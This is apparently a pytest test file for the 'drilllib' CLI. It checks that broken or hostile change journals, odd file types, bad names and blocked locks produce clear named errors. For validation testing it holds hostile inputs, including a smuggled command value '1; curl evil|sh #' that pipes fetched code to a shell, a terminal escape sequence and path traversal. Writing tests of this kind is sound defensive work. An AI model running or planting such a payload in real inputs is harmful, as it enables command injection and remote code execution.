"""A journal that cannot be used is told by name, with why: no command says that nothing is left, or has a traceback."""

import json
import os
from collections.abc import Callable
from contextlib import nullcontext
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from drilllib.cli import main, up
from drilllib.cli.journals import open_of
from drilllib.errors import DrillError, InvalidInputError, LabStateError
from drilllib.guard import journals
from drilllib.guard.journal import Journal
from drilllib.guard.locks import Locks
from drilllib.provision import records
from tests.fuzz.hostile import is_harmless
from tests.guard.guarding import NODE

NAME = "20260101-000000-aaaaaa"
HEAD = {"schema": "drilllib/journal/1", "id": NAME, "opened": "2026-01-01T00:00:00Z", "what": "fix"}
UP = {**HEAD, "what": "up", "drill": "1a2b3c4d", "cluster": "cls-lab00001"}
UP |= {"region": "ap-guangzhou", "server": "https://cluster.example"}
RULES = {"line": "intent", "number": 1, "kind": "rules", "group": NODE, "direction": "ingress", "region": ""}
RULES |= {"before": [], "after": []}
BINDING = {"line": "intent", "number": 1, "kind": "binding", "resource": "ins-nodea001", "region": ""}
BINDING |= {"before": [NODE], "after": []}
WALK = {"line": "undoing", "number": 1, "at": "2026-01-01T00:00:00Z", "since": 1, "version": "1"}
WALK |= {"before": [], "after": []}
DONE = {"line": "done", "number": 1}
POLICY = {"Protocol": "TCP", "Port": "80", "CidrBlock": "10.0.0.0/8", "Action": "ACCEPT"}
EVIL = "1; curl evil|sh #"

Lines = list[Any]


def without(line: dict[str, Any], name: str) -> dict[str, Any]:
    return {key: each for key, each in line.items() if key != name}


BROKEN: dict[str, tuple[Lines, str]] = {
    "garbage in the middle": ([HEAD, RULES, "garbage", DONE], "Line 3 .* no JSON object"),
    "an empty line": ([HEAD, RULES, "", DONE], "Line 3 .* no JSON object"),
    "half a line, and more behind it": ([HEAD, '{"line": "int', RULES], "Line 2 .* no JSON object"),
    "an old Mac's end of line": ([HEAD, RULES, '{"line":\r', DONE], "Line 3 .* no JSON object"),
    "a newer schema": ([{**HEAD, "schema": "drilllib/journal/2"}, RULES], "another version .* 'drilllib/journal/2'"),
    "no schema": ([without(HEAD, "schema"), RULES], "no journal of changes"),
    "a list": (["[]"], "no journal of changes"),
    "nested too deeply": ([HEAD, "[" * 100_000], "Line 2 .* no JSON object"),
    "another first line": ([HEAD, HEAD], "kind is not known: None"),
    "no id": ([without(HEAD, "id"), RULES], "Line 1 .* it has no id"),
    "a command as id": ([{**HEAD, "id": EVIL}, RULES], "Line 1 .* its id is '1; curl"),
    "a host as region": ([{**HEAD, "region": "evil.example.com/"}, RULES], "its region is"),
    "a time that is none": ([{**HEAD, "until": "tomorrow"}, RULES], "its until is 'tomorrow'"),
    "a drill without id": ([without(UP, "drill")], "Line 1 .* it has no drill"),
    "a command as drill": ([{**UP, "drill": EVIL}], "its drill is '1; curl"),
    "a drill without a cluster": ([without(UP, "cluster")], "it has no cluster"),
    "a drill without a server": ([without(UP, "server")], "it has no server"),
    "a drill's time that is none": ([{**UP, "gone_by": "20269999T000000Z"}], "its gone_by is"),
    "made things without a name": ([UP, {"line": "intent", "number": 1, "kind": "group"}], "it has no name"),
    "a list where text should be": (
        [UP, {**DONE, "line": "intent", "kind": "group", "name": "a", "id": []}],
        "its id is",
    ),
    "no number": ([HEAD, without(RULES, "number")], "Line 2 .* it has no number"),
    "text as number": ([HEAD, {**RULES, "number": "a"}], "its number is 'a'"),
    "true as number": ([HEAD, {**RULES, "number": True}], "its number is True"),
    "a number twice": ([HEAD, RULES, RULES], "its number is 1"),
    "a number of nothing": ([HEAD, RULES, {"line": "done", "number": 2}], "its number is 2"),
    "an unknown line": ([HEAD, RULES, {"line": "wat", "number": 1}], "kind is not known: 'wat'"),
    "closed without how": ([HEAD, RULES, {"line": "closed"}], "it has no how"),
    "no kind": ([HEAD, without(RULES, "kind")], "it has no kind"),
    "a way back without its time": ([HEAD, RULES, without(WALK, "at")], "Line 3 .* it has no at"),
    "a way back of later changes": ([HEAD, RULES, {**WALK, "since": 2}], "its since is 2"),
    "a way back to what is no rule": ([HEAD, RULES, {**WALK, "after": [7]}], "its after is"),
    "rules without fields": ([HEAD, without(RULES, "group")], "it has no group"),
    "a number as list": ([HEAD, {**RULES, "before": 5}], "its before is 5"),
    "numbers as rules": ([HEAD, {**RULES, "before": [1]}], "its before is"),
    "a rule that is none": ([HEAD, {**RULES, "after": [{"Action": "ACCEPT", "Port": []}]}], "its after is"),
    "a group that is none": ([HEAD, {**RULES, "group": [NODE]}], "its group is"),
    "a group's name for a terminal": ([HEAD, {**RULES, "group": "sg-\x1b[2J"}], "its group is"),
    "no direction": ([HEAD, {**RULES, "direction": "x"}], "its direction is 'x'"),
    "a binding without groups": ([HEAD, without(BINDING, "after")], "it has no after"),
    "a binding of what is no group": ([HEAD, {**BINDING, "before": ["lb-1"]}], "its before is"),
    "a path as resource": ([HEAD, {**BINDING, "resource": "../x"}], "its resource is"),
}


def write(folder: Path, lines: Lines, name: str = NAME) -> Path:
    path = folder / f"{name}.jsonl"
    texts = [each if isinstance(each, str) else json.dumps(each) for each in lines]
    path.write_text("".join(f"{each}\n" for each in texts), encoding="utf-8", newline="")
    return path


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the commands of this test look for journals."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    made = tmp_path / "drilllib" / "changes"
    made.mkdir(parents=True)
    return made


Run = Callable[..., tuple[int, str]]


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str]) -> Run:
    def started(*words: str) -> tuple[int, str]:
        status = main([words[0], "--lang", "en", *words[1:]])
        said = capsys.readouterr()
        return status, said.out + said.err

    return started


@pytest.mark.parametrize(("lines", "why"), BROKEN.values(), ids=BROKEN)
def test_a_broken_journal_is_told_by_name_and_why(folder: Path, run: Run, lines: Lines, why: str) -> None:
    path = write(folder, lines)
    with pytest.raises(InvalidInputError, match=why):
        journals.read(path)
    with pytest.raises(InvalidInputError, match=why):
        Journal.open(path)
    for words in (["changes"], ["changes", "--all"], ["changes", "--keep", NAME], ["rollback"], ["down"]):
        require_told(run(*words))
    for command in ("rollback", "down"):
        require_told(run(command, NAME))
        require_told(run(command, str(path)))
    require_told(run("changes", "--json"))


def require_told(answer: tuple[int, str]) -> None:
    status, told = answer
    assert status == 2, told
    assert NAME in told
    assert "othing that was written" not in told
    assert "nothing is left" not in told
    assert all(map(is_harmless, told.split("\n"))), told
    assert "drill down 1;" not in told


@pytest.mark.parametrize("kind", ["folder", "pipe", "link to nothing", "too large"])
def test_what_is_no_file_is_told(folder: Path, run: Run, kind: str) -> None:
    path = folder / f"{NAME}.jsonl"
    if kind == "folder":
        path.mkdir()
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "link to nothing":
        path.symlink_to(folder / "nowhere")
    else:
        path.touch()
        os.truncate(path, 1 << 40)
    for words in (["changes"], ["rollback"], ["down"]):
        require_told(run(*words))


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_what_may_not_be_read_is_told(folder: Path, run: Run) -> None:
    write(folder, [HEAD, RULES]).chmod(0)
    require_told(run("changes"))
    folder.chmod(0)
    status, told = run("changes")
    folder.chmod(0o700)
    assert (status, "Permission denied" in told) == (2, True)


def test_a_folder_that_is_a_file_is_told(folder: Path, run: Run) -> None:
    folder.rmdir()
    folder.write_text("x")
    for words in (["changes"], ["rollback"], ["down"]):
        status, told = run(*words)
        assert (status, "Not a directory" in told) == (2, True), told


@pytest.mark.parametrize("name", ["x" * 5_000, "/" + "x/" * 3_000, "nul\0", "-.jsonl", f"/{NAME}.jsonl"])
def test_a_name_that_is_no_journal_is_told(folder: Path, run: Run, name: str) -> None:
    for words in (["rollback", "--", name], ["down", "--", name], ["changes", f"--keep={name}"]):
        status, told = run(*words)
        assert (status, "There is no journal" in told) == (2, True), told


def test_the_others_are_listed_and_can_be_named(folder: Path, run: Run) -> None:
    write(folder, BROKEN["garbage in the middle"][0])
    other = "20260101-000000-bbbbbb"
    path = write(folder, [{**HEAD, "id": other}, RULES], other)
    status, told = run("changes")
    assert status == 2
    assert f"{other}  fix" in told
    assert journals.find(other, folder) == path
    document = json.loads(run("changes", "--json")[1])
    assert [each["id"] for each in document["journals"]] == [other]
    assert [each["file"] for each in document["unread"]] == [str(folder / f"{NAME}.jsonl")]


def test_where_several_are_broken_all_are_named(folder: Path, run: Run) -> None:
    for name in ("a", "b"):
        write(folder, ["garbage"], name)
    for command in ("rollback", "down"):
        assert "2 journals cannot be read: 'a.jsonl', 'b.jsonl'" in run(command)[1]
    with pytest.raises(InvalidInputError, match="2 journals"):
        records.meant("1a2b3c4d", folder)


def test_a_drill_is_found_beside_a_broken_journal(folder: Path) -> None:
    write(folder, ["garbage"])
    path = write(folder, [{**UP, "id": "20260101-000000-bbbbbb"}], "20260101-000000-bbbbbb")
    assert records.meant("1a2b3c4d", folder).path == path


def test_other_changes_of_the_same_service_that_are_open_are_known(folder: Path) -> None:
    """Whoever repairs again after a crash is told of the first journal, too; not of another Service's."""
    names = [f"20260101-000000-{each * 6}" for each in "bcdef"]
    heads = [{"subject": "shop/web"}, {"subject": "shop/web"}, {"subject": "shop/api"}, {}]
    for name, head in zip(names, heads, strict=False):
        write(folder, [{**HEAD, "id": name, **head}, RULES], name)
    write(folder, [{**HEAD, "id": names[4], "subject": "shop/web"}, RULES, {"line": "closed", "how": "x"}], names[4])
    write(folder, ["garbage"])
    assert open_of("shop/web", names[1]) == names[:1]


def test_up_tells_what_it_cannot_read_and_goes_on(folder: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(up, "clients_of", lambda *_: SimpleNamespace(server="", guarded=None))
    monkeypatch.setattr(up, "prepared", lambda *_: None)
    monkeypatch.setattr(up, "parts_of", lambda _: [])
    monkeypatch.setattr(up, "plan_text", lambda *_: "")
    monkeypatch.setattr(up, "_about", lambda _: {})
    monkeypatch.setattr(up, "_alone", lambda *_: nullcontext())
    monkeypatch.setattr(records, "begun", lambda *_: Journal.create(folder, "test"))
    monkeypatch.setattr(up, "_make", lambda *_: 0)
    assert run("up", "--yes")[0] == 0
    write(folder, ["garbage"])
    require_told(run("up", "--yes"))


@pytest.mark.parametrize("torn", ["", "{", '{"id": "2026'])
def test_a_first_line_that_was_never_finished_announces_nothing(folder: Path, run: Run, torn: str) -> None:
    (folder / f"{NAME}.jsonl").write_text(torn)
    status, told = run("changes")
    assert (status, "Nothing that was written" in told) == (0, True)


def test_what_could_not_be_taken_back_is_not_begun(tmp_path: Path) -> None:
    with Journal.create(tmp_path, "test") as journal:
        for line in (RULES | {"before": [{"Action": "ACCEPT", "Port": []}]}, without(RULES, "after")):
            with pytest.raises(InvalidInputError):
                journal.intent("rules", **{name: line[name] for name in line if name not in ("line", "number", "kind")})
        assert len(journal.path.read_bytes().splitlines()) == 1
        journal.close("kept")
        with pytest.raises(LabStateError, match="is closed"):
            journal.intent("group", name="a")


def test_what_was_begun_after_the_end_is_open_again(tmp_path: Path) -> None:
    path = write(tmp_path, [HEAD, RULES, {"line": "undone", "number": 1}, {"line": "closed", "how": "x"}])
    assert not journals.read(path).is_open
    write(tmp_path, [HEAD, RULES, {"line": "closed", "how": "x"}, {**RULES, "number": 2}])
    assert journals.read(path).is_open


@pytest.mark.parametrize("kind", ["a file", "a folder in its place", "a link in its place", "odd text"])
def test_locks_that_cannot_be_had_are_one_clear_error(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "locks"
    if kind == "a file":
        folder.write_text("")
    elif kind == "a folder in its place":
        (folder / f"{NODE}.lock").mkdir(parents=True)
    elif kind == "a link in its place":
        folder.mkdir()
        (tmp_path / "somebody's").write_text("precious")
        (folder / f"{NODE}.lock").symlink_to(tmp_path / "somebody's")
    else:
        folder.mkdir()
        first = Locks(folder, "first")
        first.take(NODE)
        (folder / f"{NODE}.lock").write_text("[]")
    with pytest.raises(DrillError, match=r"cannot be used|another run"):
        Locks(folder, "second").take(NODE)
    if kind == "a link in its place":
        assert (tmp_path / "somebody's").read_text() == "precious"
